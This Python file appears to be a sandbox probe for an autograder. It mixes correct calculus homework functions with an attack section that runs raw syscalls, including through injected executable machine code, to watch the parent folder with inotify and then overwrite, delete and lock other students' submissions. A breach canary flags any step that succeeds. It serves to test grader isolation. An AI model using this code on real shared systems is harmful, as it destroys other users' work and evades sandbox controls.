"""probe_a case rw_inotify_vandal_native (reach_workers, native): hw2_compgraph calculus.py.

inotify watch on the parent folder (raw syscalls) to catch victims' folders as they appear, then
vandalises them as rw_folder_vandal_py. seccomp kills on "what workers graded at the same time
could use to reach each other or to hide memory from memory_mb: System V shared memory, queues and
semaphores, memfd, inotify and fanotify watches, file locks (flock, fcntl locks), and scheduling or
priority changes to any process but itself"; hook refuses ctypes and outside writes; seen ("a
worker killed by SIGSYS, a refusal by the kernel, a process left behind, or a report pipe tampered
with sets the row's status to sandbox ..., as does a refused attempt by the student's own code"):
14..20. Victims are checked by the harness; this entry is the attacker's own row. If a forbidden
step ever succeeds the case raises in every graded function (breach canary), so a silent breach
shows as lost points.
"""

import numpy as np

# ---- probe_a prelude: attack bookkeeping, never raises ----
import os as _pa_os
import sys as _pa_sys
import time as _pa_time

_PA_CASE = 'rw_inotify_vandal_native'
_PA_LOG = []
_PA_BREACHES = []
_PA_KEEP = []


def _pa_note(label, status, detail=""):
    try:
        _PA_LOG.append((round(_pa_time.monotonic(), 3), str(label), status, str(detail)[:300]))
    except BaseException:
        pass


def _pa_breach(what):
    """A step the documentation says is refused has succeeded."""
    _PA_BREACHES.append(str(what))
    _pa_note("BREACH", "breach", what)
    try:
        fh = open(_pa_os.path.join(_pa_os.getcwd(), "probe_a_BREACH"), "a")
        try:
            fh.write("%s: %s\n" % (_PA_CASE, what))
        finally:
            fh.close()
    except BaseException:
        pass


def _pa_spoiled():
    if _PA_BREACHES:
        return True
    try:
        for _n, _m in list(_pa_sys.modules.items()):
            if _n.endswith(("calculus", "compgraph")) and getattr(_m, "_PA_BREACHES", None):
                return True
    except BaseException:
        pass
    try:
        return _pa_os.path.exists(_pa_os.path.join(_pa_os.getcwd(), "probe_a_BREACH"))
    except BaseException:
        return False


def _pa_try(label, fn, *args, **kwargs):
    """Run one attack step; a refusal (any exception) is logged and swallowed."""
    try:
        r = fn(*args, **kwargs)
    except KeyboardInterrupt:
        raise
    except BaseException as e:
        _pa_note(label, "refused", repr(e))
        return e
    _pa_note(label, "ok", repr(r)[:200])
    return r


def _pa_ok(r):
    return not isinstance(r, BaseException)


_PA_TMP_ROOTS = ("/tmp", "/var/tmp", "/dev/shm")


def _pa_safe_dir(p):
    """True only for folders strictly inside /tmp, /var/tmp or /dev/shm (grader-made
    temporary folders): the only places a destructive step is ever aimed at."""
    try:
        rp = _pa_os.path.realpath(p)
    except BaseException:
        return False
    for root in _PA_TMP_ROOTS:
        if rp.startswith(root + "/"):
            rest = rp[len(root) + 1:]
            first = rest.split("/")[0]
            if rest and not first.startswith(("probe_brief", "bash_jobs", ".X11", "systemd")):
                return True
    return False


def _pa_deadline(seconds):
    end = _pa_time.monotonic() + seconds
    return lambda: _pa_time.monotonic() < end

_PA_SC = []


def _pa_s64(v):
    v = int(v) & 0xFFFFFFFFFFFFFFFF
    return v - (1 << 64) if v >> 63 else v


def _pa_sc():
    """A callable sc(nr, *args) -> raw result (negative errno on failure)."""
    if _PA_SC:
        if _PA_SC[0] is None:
            raise RuntimeError("probe_a: no native route")
        return _PA_SC[0]
    import ctypes

    def from_fn(fn, label, with_errno):
        fn.restype = ctypes.c_long

        def sc(nr, *args):
            r = fn(ctypes.c_long(_pa_s64(nr)), *[ctypes.c_long(_pa_s64(a)) for a in args])
            if r == -1 and with_errno:
                return -ctypes.get_errno()
            return r
        sc.route = label
        return sc

    # PyDLL / PYFUNCTYPE keep the GIL during the call, so a clone() child is never left
    # waiting for a GIL that some other thread held at the moment of the fork.
    for name in (None, "libc.so.6"):
        try:
            lib = ctypes.PyDLL(name, use_errno=True)
            sc = from_fn(lib.syscall, "PyDLL(%r).syscall" % (name,), True)
            _PA_SC.append(sc)
            _pa_note("native route", "ok", sc.route)
            return sc
        except KeyboardInterrupt:
            raise
        except BaseException as e:
            _pa_note("native CDLL(%r)" % (name,), "refused", repr(e))
    try:
        sc = from_fn(ctypes.pythonapi.syscall, "pythonapi.syscall", False)
        _PA_SC.append(sc)
        _pa_note("native route", "ok", sc.route)
        return sc
    except KeyboardInterrupt:
        raise
    except BaseException as e:
        _pa_note("native pythonapi", "refused", repr(e))
    try:
        import mmap
        code = bytes.fromhex("4889f84889f74889d64889ca4d89c24d89c84c8b4c24080f05c3")
        buf = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
        buf.write(code)
        cbuf = ctypes.c_char.from_buffer(buf)
        raw = ctypes.PYFUNCTYPE(ctypes.c_long, *([ctypes.c_long] * 7))(ctypes.addressof(cbuf))

        def sc(nr, *args):
            a = [_pa_s64(x) for x in args] + [0] * (6 - len(args))
            return raw(_pa_s64(nr), *a)
        sc.route = "machine code"
        sc.keep = (buf, cbuf, raw)
        _PA_SC.append(sc)
        _pa_note("native route", "ok", sc.route)
        return sc
    except KeyboardInterrupt:
        raise
    except BaseException as e:
        _pa_note("native machine code", "refused", repr(e))
    _PA_SC.append(None)
    raise RuntimeError("probe_a: no native route")


def _pa_scall(label, nr, *args, mode="kill"):
    """One raw syscall.  mode "kill": the docs say seccomp kills the worker on it, so
    returning at all is a breach; "success": only a result >= 0 is a breach; "none"."""
    try:
        sc = _pa_sc()
    except KeyboardInterrupt:
        raise
    except BaseException as e:
        _pa_note(label, "no native route", repr(e))
        return None
    try:
        r = sc(nr, *args)
    except KeyboardInterrupt:
        raise
    except BaseException as e:
        _pa_note(label, "refused", repr(e))
        return None
    _pa_note(label, "returned", r)
    if mode == "kill":
        _pa_breach("%s returned %r (%s): the seccomp filter did not kill the worker" % (label, r, sc.route))
    elif mode == "success" and r is not None and r >= 0:
        _pa_breach("%s succeeded with %r (%s)" % (label, r, sc.route))
    return r


def _pa_cbuf(data_or_size):
    import ctypes
    if isinstance(data_or_size, int):
        b = ctypes.create_string_buffer(data_or_size)
    else:
        b = ctypes.create_string_buffer(bytes(data_or_size), len(data_or_size) + 1)
    _PA_KEEP.append(b)
    return b, ctypes.addressof(b)

# --- probe_a honest code begin ---
def grad_f(x, y):
    """Gradient [df/dx, df/dy] of f(x, y) = (2x + 3y)^2, shape (2,)."""
    x = float(np.asarray(x, dtype=float).reshape(()))
    y = float(np.asarray(y, dtype=float).reshape(()))
    t = 2.0 * (2.0 * x + 3.0 * y)
    return np.array([2.0 * t, 3.0 * t])


def jacobian_F(x, y):
    """Jacobian of F(x, y) = [x^2 + 2y, 3x + 4y^2], shape (2, 2)."""
    x = float(np.asarray(x, dtype=float).reshape(()))
    y = float(np.asarray(y, dtype=float).reshape(()))
    return np.array([[2.0 * x, 2.0], [3.0, 8.0 * y]])


def G(x):
    """G(x) = [x, x^2], shape (2,)."""
    x = float(np.asarray(x, dtype=float).reshape(()))
    return np.array([x, x * x])


def jacobian_FG(x):
    """D(F o G)(x) = DF(G(x)) . DG(x), shape (2,)."""
    x = float(np.asarray(x, dtype=float).reshape(()))
    u, w = x, x * x
    DF = np.array([[2.0 * u, 2.0], [3.0, 8.0 * w]])
    DG = np.array([1.0, 2.0 * x])
    return DF @ DG


def _scalar(value):
    a = np.asarray(value, dtype=float)
    if a.size != 1:
        raise ValueError("f must return a scalar, got shape %r" % (a.shape,))
    return float(a.reshape(-1)[0])


def numerical_gradient(f, x, eps=1e-6):
    """Central-difference gradient of a scalar function f at the array x (same shape as x)."""
    x = np.array(x, dtype=float)
    g = np.zeros_like(x)
    for idx in np.ndindex(x.shape):
        xp = x.copy()
        xm = x.copy()
        xp[idx] += eps
        xm[idx] -= eps
        g[idx] = (_scalar(f(xp)) - _scalar(f(xm))) / (2.0 * eps)
    return g


def numerical_jacobian(F, x, eps=1e-6):
    """Central-difference Jacobian of a vector function F at the 1-D array x: (len(F(x)), len(x))."""
    x = np.array(x, dtype=float).reshape(-1)
    m = np.asarray(F(x.copy()), dtype=float).reshape(-1).size
    J = np.zeros((m, x.size))
    for k in range(x.size):
        xp = x.copy()
        xm = x.copy()
        xp[k] += eps
        xm[k] -= eps
        J[:, k] = (np.asarray(F(xp), dtype=float).reshape(-1) - np.asarray(F(xm), dtype=float).reshape(-1)) / (2.0 * eps)
    return J
# --- probe_a honest code end ---


# ---- probe_a attack ----
def _pa_write_text(p, text):
    with open(p, "w") as fh:
        fh.write(text)


def _pa_is_submission(d):
    return _pa_os.path.isfile(_pa_os.path.join(d, "compgraph.py")) or \
        _pa_os.path.isfile(_pa_os.path.join(d, "calculus.py"))


def _pa_candidates(parent, names):
    """Sibling folders that hold another submission (compgraph.py or calculus.py)."""
    own = _pa_os.path.realpath(_pa_os.getcwd())
    out = []
    for n in names:
        d = _pa_os.path.join(parent, n)
        try:
            rd = _pa_os.path.realpath(d)
        except BaseException:
            continue
        if rd == own or own.startswith(rd + "/") or rd.startswith(own + "/"):
            continue
        if _pa_os.path.isdir(d) and _pa_is_submission(d):
            out.append(d)
    return out


def _pa_vandalise(d):
    """Damage another submission's folder; only ever inside /tmp, /var/tmp, /dev/shm."""
    if not _pa_safe_dir(d) or not _pa_is_submission(d):
        _pa_note("vandalise", "skipped (not a grader temp submission folder)", d)
        return
    for fn in ("compgraph.py", "calculus.py"):
        p = _pa_os.path.join(d, fn)
        if _pa_os.path.exists(p) and _pa_ok(_pa_try("overwrite " + p, _pa_write_text, p,
                                                   "raise SystemExit('probe_a vandal')\n")):
            _pa_breach("overwrote " + p)
    p = _pa_os.path.join(d, "probe_a_vandal.txt")
    if _pa_ok(_pa_try("drop " + p, _pa_write_text, p, "probe_a\n")):
        _pa_breach("wrote " + p)
    p = _pa_os.path.join(d, "calculus.py")
    if _pa_os.path.exists(p) and _pa_ok(_pa_try("remove " + p, _pa_os.remove, p)):
        _pa_breach("removed " + p)
    if _pa_ok(_pa_try("chmod 000 " + d, _pa_os.chmod, d, 0)):
        _pa_breach("chmod 000 " + d)

def _pa_attack():
    import struct
    own = _pa_os.path.realpath(_pa_os.getcwd())
    parent = _pa_os.path.dirname(own)
    fd = _pa_scall("inotify_init1", 294, 0o4000 | 0o2000000, mode="none")
    if fd is not None and fd >= 0:
        b, a = _pa_cbuf(parent.encode() + b"\0")
        _pa_scall("inotify_add_watch(parent)", 254, fd, a, 0x100 | 0x80 | 0x8, mode="kill")
    _pa_scall("fanotify_init", 300, 0, 0, mode="kill")
    done = set()
    alive = _pa_deadline(3.0)
    while alive():
        names = set()
        if fd is not None and fd >= 0:
            try:
                buf = _pa_os.read(fd, 65536)
                i = 0
                while i + 16 <= len(buf):
                    wd, mask, cookie, ln = struct.unpack_from("iIII", buf, i)
                    names.add(buf[i + 16:i + 16 + ln].rstrip(b"\0").decode("utf-8", "replace"))
                    i += 16 + ln
            except BaseException:
                pass
        listed = _pa_try("listdir parent", _pa_os.listdir, parent)
        if _pa_ok(listed):
            names.update(listed)
        for d in _pa_candidates(parent, [n for n in names if n]):
            if d not in done:
                done.add(d)
                _pa_vandalise(d)
        if not names and not _pa_ok(listed) and (fd is None or fd < 0):
            break
        _pa_time.sleep(0.2)


_pa_try("attack", _pa_attack)


# ---- probe_a breach canary: a forbidden step that succeeded costs the points ----
def _pa_guard(names):
    import functools
    g = globals()
    for n in names:
        f = g.get(n)
        if not callable(f):
            continue

        def make(f, n):
            @functools.wraps(f)
            def wrapper(*args, **kwargs):
                if _pa_spoiled():
                    raise RuntimeError("probe_a breach canary (%s): a step the docs say is refused "
                                       "succeeded: %s" % (_PA_CASE, "; ".join(_PA_BREACHES) or "see probe_a_BREACH"))
                return f(*args, **kwargs)
            return wrapper
        g[n] = make(f, n)


_pa_guard(['grad_f', 'jacobian_F', 'G', 'jacobian_FG', 'numerical_gradient', 'numerical_jacobian'])
